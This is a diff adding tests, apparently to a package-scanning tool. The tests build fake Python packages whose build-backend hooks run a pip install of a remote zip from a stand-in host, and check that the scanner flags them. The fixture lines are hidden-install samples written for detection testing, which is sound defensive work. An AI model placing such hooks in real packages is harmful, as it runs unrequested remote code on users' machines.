@@ -347,6 +347,38 @@ def test_what_a_host_calls_by_itself_runs_by_itself(
     assert rules(tmp_path, files, "sample/plugin.py") == {"sends-secrets"}
 
 
+BACKEND = "[build-system]\nrequires = []\nbuild-backend = 'own'\nbackend-path = ['b']\n"
+PIP = "subprocess.run([sys.executable, '-m', 'pip', 'install', 'https://a.example/x.zip'])"
+
+
+@pytest.mark.parametrize(
+    ("own", "other", "path"),
+    [
+        ("def f(settings=None): HARM\nbuild_wheel = f", "", "own"),
+        ("class Own:\n    def build_wheel(self, folder): HARM\nown = Own()", "", "own"),
+        ("class Own:\n    def f(self, folder): HARM\n    build_sdist = f\nown = Own()", "", "own"),
+        ("from other import f as build_wheel", "def f(folder): HARM", "other"),
+        ("from .other import f as build_wheel", "def f(folder): HARM", "other"),
+    ],
+)
+def test_a_hook_of_a_backend_runs_whatever_it_is_called(
+    tmp_path: Path, own: str, other: str, path: str
+) -> None:
+    files = {"pyproject.toml": BACKEND, "b/own.py": own, "b/other.py": other}
+    written = {f"s-1.0/{name}": text.replace("HARM", PIP) for name, text in files.items()}
+    for name in ("s-1.0/b/own.py", "s-1.0/b/other.py"):
+        written[name] = f"import subprocess, sys\n{written[name]}\n"
+
+    assert rules(tmp_path, written, f"s-1.0/b/{path}.py", SDIST) == {"installs-another-package"}
+
+
+def test_what_a_backend_has_besides_its_hooks_waits(tmp_path: Path) -> None:
+    own = f"import subprocess, sys\ndef build_wheel(folder): pass\ndef main():\n    {PIP}\n"
+    files = {"s-1.0/pyproject.toml": BACKEND, "s-1.0/b/own.py": own}
+
+    assert rules(tmp_path, files, "s-1.0/b/own.py", SDIST) == set()
+
+
 PLUGIN = "sample.tests.plugin:begin"
 
 
